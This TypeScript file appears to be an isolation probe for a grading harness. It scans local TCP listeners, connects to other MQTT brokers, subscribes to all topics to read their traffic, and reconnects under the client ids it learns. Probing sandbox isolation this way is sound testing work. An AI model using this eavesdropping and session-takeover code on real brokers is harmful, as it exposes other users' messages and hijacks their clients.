// The classmate attack: find every TCP listener on the machine's loopback (/proc/net/tcp), and on each one that
// is not this program's own MQTT_URL, try to speak MQTT: CONNECT, then SUBSCRIBE to '#' to read other grades'
// traffic, learn their client ids from it, and connect again as them (a takeover). Prints one line:
// CROSSTALK {"interfaces": [...], "foreign": n, "connected": [...], "learned": [...]}.
import { readFileSync } from 'node:fs'
import os from 'node:os'
import mqtt from 'mqtt'

const own = Number(new URL(process.env.MQTT_URL ?? 'mqtt://127.0.0.1:1').port)
const connected = new Set<string>()
/** The uid owning each listener (a column of /proc/net/tcp): says whose listener let an intruder in. */
const owners = new Map<number, string>()
const learned = new Set<string>()
const tried = new Set<number>()

function listeners(): number[] {
  const ports = new Set<number>()
  for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
    let table = ''
    try {
      table = readFileSync(file, 'utf8')
    } catch {
      continue
    }
    for (const line of table.split('\n').slice(1)) {
      const fields = line.trim().split(/\s+/)
      // state 0A: LISTEN
      if (fields[3] !== '0A') continue
      const port = Number.parseInt(fields[1].split(':')[1], 16)
      ports.add(port)
      owners.set(port, fields[7])
    }
  }
  return [...ports].filter((port) => port !== own)
}

function attack(port: number, clientId: string): Promise<void> {
  return new Promise((resolve) => {
    const client = mqtt.connect(`mqtt://127.0.0.1:${port}`, { clientId, reconnectPeriod: 0, connectTimeout: 500 })
    const done = () => {
      client.end(true)
      report()
      resolve()
    }
    client.on('connect', () => {
      connected.add(`${port} (uid ${owners.get(port)})`)
      client.subscribe('#', () => setTimeout(done, 1000))
    })
    client.on('message', (_topic, payload) => {
      const id = /hello from (\S+)/.exec(payload.toString())?.[1]
      if (id && id !== process.env.CLIENT_ID) learned.add(`${id}@${port}`)
    })
    client.on('error', done)
    client.on('close', done)
  })
}

// Other grades come and go: look again and again while this program's own grade runs (the grader ends it), and
// say what was done after every round (the last line is the whole story).
const interfaces = Object.keys(os.networkInterfaces())
let rounds = 0
function report(): void {
  console.error(
    `CROSSTALK ${JSON.stringify({ interfaces, rounds, attempts: ++attempts, foreign: tried.size, connected: [...connected], learned: [...learned] })}`,
  )
}
let attempts = 0
report()
for (let round = 0; round < 20; round++) {
  const found = listeners()
  for (const port of found) tried.add(port)
  await Promise.all(found.map((port) => attack(port, `intruder-${round}`)))
  // A takeover: every id learned, on every listener.
  await Promise.all(
    [...learned].map((entry) => entry.split('@')).map(([id]) => Promise.all(found.map((port) => attack(port, id)))),
  )
  rounds = round + 1
  report()
  await new Promise((resolve) => setTimeout(resolve, 300))
}
